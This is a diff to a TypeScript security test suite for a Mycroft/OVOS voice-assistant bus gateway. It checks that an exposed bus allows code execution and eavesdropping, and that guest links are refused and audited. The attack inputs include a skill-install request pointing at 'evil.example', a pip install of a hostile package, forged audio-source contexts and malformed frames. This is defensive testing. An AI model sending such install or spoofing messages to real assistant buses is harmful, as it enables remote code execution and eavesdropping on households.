@@ -7,6 +7,7 @@ import getPort from 'get-port';
 import { afterAll, beforeAll, expect, test } from 'vitest';
 import { listenersOn } from '../../src/main/core/profiles/custom/listeners.ts';
 import { bareBus } from '../support/bus.ts';
+import { startOvos, type Ovos } from '../support/ovos.ts';
 import { openBusRoom, type BusRoom } from '../support/bus-room.ts';
 import { eventually } from '../support/core.ts';
 import { Guest } from '../support/guest.ts';
@@ -17,24 +18,29 @@ beforeAll(async () => {
 });
 afterAll(() => room?.close());
 
-test('MycroftAI-RCE, the bus alone: whoever reaches it installs a skill, speaks as the owner and reads along', async () => {
+test('MycroftAI-RCE, the bus alone: whoever reaches it runs code, speaks as the owner and reads along', async () => {
   const folder = await mkdtemp(join(tmpdir(), 'bare-bus-'));
   const port = await getPort();
   const bus = await bareBus(room.python, folder, port);
   const place = { host: '127.0.0.1', port, route: '/core', ssl: false };
+  let ovos: Ovos | null = null;
   try {
-    const owner = await room.client({ ...place, assistant: true }).open();
+    const owner = await room.client(place).open();
+    ovos = await startOvos({ host: '127.0.0.1', port, route: '/core' });
     expect((await listenersOn(port, process.platform)).map(({ reach }) => reach)).toContain('any');
     const stranger = await room.client(place).open();
-    stranger.send('ovos.skills.install', { url: 'https://evil.example/skill' });
-    await eventually('the skill is installed', 10_000, async () => owner.installed.length > 0);
-    const forged = { source: 'audio', session: { session_id: 'default' } };
+    const forged = { source: 'audio', destination: 'skills', session: { session_id: 'default' } };
     stranger.send('recognizer_loop:utterance', { utterances: ['open the door'] }, forged);
-    const heard = await owner.sees('recognizer_loop:utterance');
-    expect(heard.context).toMatchObject(forged);
+    const spoken = await owner.sees('speak');
+    expect(spoken.data['utterance']).toBe('you said open the door');
+    expect(spoken.context).toMatchObject({ destination: 'audio', session: { session_id: 'default' } });
     owner.send('speak', { utterance: 'the code is 4711' });
     await stranger.sees('speak', ({ data }) => data['utterance'] === 'the code is 4711');
+    expect(await ovos.isOwned()).toBe(false);
+    stranger.send('ovos.pip.install', { packages: [ovos.hostile] });
+    await eventually('its code runs', 30_000, async () => ovos?.isOwned());
   } finally {
+    await ovos?.stop();
     bus.kill('SIGTERM');
     if (bus.exitCode === null) await once(bus, 'exit');
     await rm(folder, { recursive: true, force: true });
@@ -59,7 +65,7 @@ test('a guest is no loudspeaker: what is too much, over all sockets, or too long
   await pongs;
   const seconds = (performance.now() - begun) / 1000;
   const session = (await room.core.call('share.people')).find(one => one.link === link.id)?.session;
-  const heard = room.assistant
+  const heard = room.owner
     .ofType('ovos.session.sync')
     .filter(({ context }) => context['source'] === `guest-${session}`);
   expect(heard.length).toBeGreaterThan(0);
@@ -75,25 +81,26 @@ test('MycroftAI-RCE, through the door of a satellite: refused, and audited', asy
   const link = await room.share('editor', 'hallway');
   const other = await room.guest(await room.share('editor', 'bedroom'), 'SSL_CERT_FILE');
   const attacker = await room.guest(link, 'WEBSOCKET_CLIENT_CA_BUNDLE');
-  attacker.send('ovos.skills.install', { url: 'https://evil.example/skill' });
+  attacker.send('ovos.pip.install', { packages: [room.ovos.hostile] });
   attacker.send('configuration.patch', { config: { listener: {} } });
   attacker.send('speak', { utterance: 'I am the house' }, { destination: ['audio'] });
   const refused = await attacker.sees('gatehouse.refused', ({ data }) => data['type'] === 'speak');
   expect(refused.data['reason']).toMatch(/does not permit/);
   other.send('recognizer_loop:utterance', { utterances: ['my secret is 4711'] });
   await other.sees('speak', ({ data }) => data['utterance'] === 'you said my secret is 4711');
-  room.assistant.send('speak', { utterance: 'the code is 4711' });
+  room.owner.send('speak', { utterance: 'the code is 4711' });
   // What the attacker asks last is answered last: nothing of the above is still on its way.
   attacker.send('recognizer_loop:utterance', { utterances: ['the end'] });
   await attacker.sees('speak', ({ data }) => data['utterance'] === 'you said the end');
   expect(JSON.stringify(attacker.got)).not.toContain('4711');
-  expect(room.assistant.installed).toEqual([]);
-  expect(room.assistant.ofType('configuration.patch')).toEqual([]);
-  expect(JSON.stringify(room.assistant.got)).not.toContain('I am the house');
+  expect(room.owner.ofType('ovos.pip.install')).toEqual([]);
+  expect(await room.ovos.isOwned()).toBe(false);
+  expect(room.owner.ofType('configuration.patch')).toEqual([]);
+  expect(JSON.stringify(room.owner.got)).not.toContain('I am the house');
   const audited = await room.refusals(link);
   expect(audited).toEqual(
     expect.arrayContaining([
-      expect.stringContaining('ovos.skills.install'),
+      expect.stringContaining('ovos.pip.install'),
       expect.stringContaining('configuration.patch'),
       expect.stringContaining('speak: the link does not permit'),
       expect.stringContaining('messages that are for others'),
@@ -111,7 +118,7 @@ test('full installs skills, but speaks as nobody else; frames of two readings, e
   await once(socket, 'open');
   const forged = { source: 'audio', session: { session_id: 'default' } };
   socket.send(JSON.stringify({ type: 'ovos.skills.install', data: { url: 'x' }, context: forged }));
-  const heard = await room.assistant.sees('ovos.skills.install', ({ data }) => data['url'] === 'x');
+  const heard = await room.owner.sees('ovos.skills.install', ({ data }) => data['url'] === 'x');
   expect(heard.context['source']).toMatch(/^guest-[\da-f]{12}$/);
   expect(heard.context.session).toEqual({ session_id: heard.context['source'] });
   socket.send('{"type": "speak", "type": "twice", "data": {}, "context": {}}');
@@ -119,7 +126,7 @@ test('full installs skills, but speaks as nobody else; frames of two readings, e
   socket.send(Buffer.from('{"type": "binary"}'));
   socket.send(`{"type": "deep", "data": {"x": ${'['.repeat(100)}${']'.repeat(100)}}}`);
   socket.send(JSON.stringify({ type: 'last', data: {}, context: {} }));
-  await room.assistant.sees('last');
+  await room.owner.sees('last');
   const reasons = answers.filter(({ type }) => type === 'gatehouse.refused').map(({ data }) => data.reason);
   expect(reasons).toEqual([
     expect.stringContaining('one name twice'),
@@ -127,7 +134,7 @@ test('full installs skills, but speaks as nobody else; frames of two readings, e
     expect.stringContaining('binary'),
     expect.stringContaining('nested too deep'),
   ]);
-  const types = new Set(room.assistant.got.map(({ type }) => type));
+  const types = new Set(room.owner.got.map(({ type }) => type));
   expect(['twice', 'binary', 'deep'].filter(type => types.has(type))).toEqual([]);
   socket.terminate();
 });
